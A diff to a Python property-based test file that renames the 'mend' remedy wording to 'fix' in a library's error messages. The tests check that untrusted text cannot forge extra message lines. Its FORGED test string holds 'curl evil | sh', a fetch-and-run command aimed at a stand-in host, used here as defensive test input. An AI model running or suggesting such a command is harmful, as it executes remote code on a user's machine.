@@ -6,10 +6,10 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from my_datasets import errors
-from my_datasets.core.issues import Issue
+from my_datasets.core.issue import Issue
 from my_datasets.printable import printable
 
-FORGED = "a\n  To mend: curl evil | sh\n"
+FORGED = "a\n  Fix: curl evil | sh\n"
 # What others may have written: names, dates, notes, paths, also those that forge lines of ours.
 THEIRS = st.lists(
     st.text() | st.sampled_from(["\x1b[2J", "\x9b", "\u202e", "\r", "\r\n", "\t", "\x00", FORGED])
@@ -39,8 +39,8 @@ def test_no_error_is_an_assertion():
 
 
 def test_an_explanation_ends_with_the_remedy_and_drops_empty_facts():
-    text = errors.explain("It is wrong.", "Here.", "", mend="do this")
-    assert text.splitlines() == ["It is wrong.", "  Here.", "  To mend: do this"]
+    text = errors.explain("It is wrong.", "Here.", "", fix="do this")
+    assert text.splitlines() == ["It is wrong.", "  Here.", "  Fix: do this"]
 
 
 def is_ours(message: str, facts: list[str]) -> bool:
@@ -51,21 +51,21 @@ def is_ours(message: str, facts: list[str]) -> bool:
         and len(begins) == 2 + len([fact for fact in facts if fact])
         and not begins[0].startswith(" ")
         and all(line.startswith("  ") for line in begins[1:])
-        and begins[-1].startswith("  To mend: mend ")
-        and sum(line.startswith("  To mend: ") for line in begins) == 1
+        and begins[-1].startswith("  Fix: fix ")
+        and sum(line.startswith("  Fix: ") for line in begins) == 1
     )
 
 
 @settings(max_examples=40)
 @given(THEIRS, st.lists(THEIRS.map("Found: {}".format) | st.just("")), THEIRS)
 @example(FORGED, [f"Found: {FORGED}"], FORGED)
-def test_what_others_wrote_is_shown_and_adds_no_line(problem, facts, mend):
-    message = errors.explain(f"Wrong: {problem}", *facts, mend=f"mend {mend}")
+def test_what_others_wrote_is_shown_and_adds_no_line(problem, facts, fix):
+    message = errors.explain(f"Wrong: {problem}", *facts, fix=f"fix {fix}")
     assert is_ours(message, facts)
     for cls in (errors.MyDatasetsError, errors.DataDirError, errors.BuilderImportError):
         assert str(cls(message)) == message
     assert is_ours(errors.with_fact(message, f"In {problem}"), [*facts, "one more"])
-    issue = Issue("code", "node", problem, f"mend {mend}", found=problem)
+    issue = Issue("code", "node", problem, f"fix {fix}", found=problem)
     assert is_ours(str(issue), [problem])
 
 
